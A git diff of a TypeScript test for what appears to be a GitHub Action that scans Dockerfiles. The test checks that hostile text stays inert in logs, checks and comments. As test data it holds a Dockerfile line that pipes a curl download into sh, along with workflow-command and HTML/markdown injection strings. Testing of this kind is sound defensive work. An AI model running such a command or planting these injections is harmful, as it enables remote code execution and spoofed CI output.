@@ -6,10 +6,10 @@ import {
   scheduleEvent,
   workflowDispatchEvent,
 } from '../github/events.ts';
-import { type LoopbackGitHub, startGitHub } from '../github/loopback/server.ts';
+import { type LoopbackGitHub, startGitHub, WORKFLOW_TOKEN } from '../github/loopback/server.ts';
 import { BASE, HEAD } from '../github/open.ts';
 import { CLEAN, RISKY } from './dockerfiles.ts';
-import { type ActionInputs, makeWorkspace, requireBundle, runAction } from './runner.ts';
+import { type ActionInputs, makeWorkspace, requireBundle, runAction, workflowCommands } from './runner.ts';
 
 let server: LoopbackGitHub;
 requireBundle();
@@ -77,14 +77,28 @@ describe('pull_request_target', () => {
 });
 
 describe('hostile text', () => {
-  test('of a Dockerfile stays text in log, check and comment', async () => {
-    const attack = '::error::planted ##[error]planted\\r::add-mask::x @octocat <img src=x> | [a](http://b)';
-    const dockerfile = `FROM debian:latest\nLABEL a="${attack}"\nRUN curl http://x.invalid/${attack.replaceAll(' ', '')} | sh\n`;
-    const payload = pullRequestEvent('opened', { title: attack });
-    const { stdout, outputs } = await run('pull_request', payload, dockerfile, { 'github-token': '' });
+  const attack = '::error::planted ##[error]planted @octocat <img/src=x> |[a](http://b)';
+  const dockerfile = `FROM debian:latest
+LABEL note="${attack}"
+RUN curl "http://x.invalid/${attack.replaceAll(' ', '')}" | sh
+`;
+  const payload = pullRequestEvent('opened', { title: attack });
+
+  test.each([
+    ['check and comment', WORKFLOW_TOKEN],
+    ['annotations in the log', ''],
+  ])('of a Dockerfile stays text: %s', async (_where, token) => {
+    const { stdout, outputs, summary } = await run('pull_request', payload, dockerfile, { 'github-token': token });
     expect(outputs['verdict']).toBe('failure');
-    const lines = stdout.split(/\r\n|\r|\n/);
-    expect(lines.filter((line) => /^\s*::(error|add-mask)::(planted|x)/.test(line))).toEqual([]);
     expect(stdout).not.toContain('##[');
+    const names = ['group', 'endgroup', 'stop-commands', 'error', 'warning'];
+    const found = workflowCommands(stdout);
+    expect(found.filter(({ name }) => !names.includes(name))).toEqual([]);
+    expect(found.filter(({ text }) => text.startsWith('planted'))).toEqual([]);
+    for (const markdown of [summary, ...server.state.comments.map(({ body }) => body)]) {
+      // Nothing of it may stand outside a code span.
+      const plain = markdown.replace(/(`+)(?!`).*?[^`]\1(?!`)/gs, '');
+      expect(plain).not.toMatch(/@octocat|<img|\]\(http:\/\/b/);
+    }
   });
 });
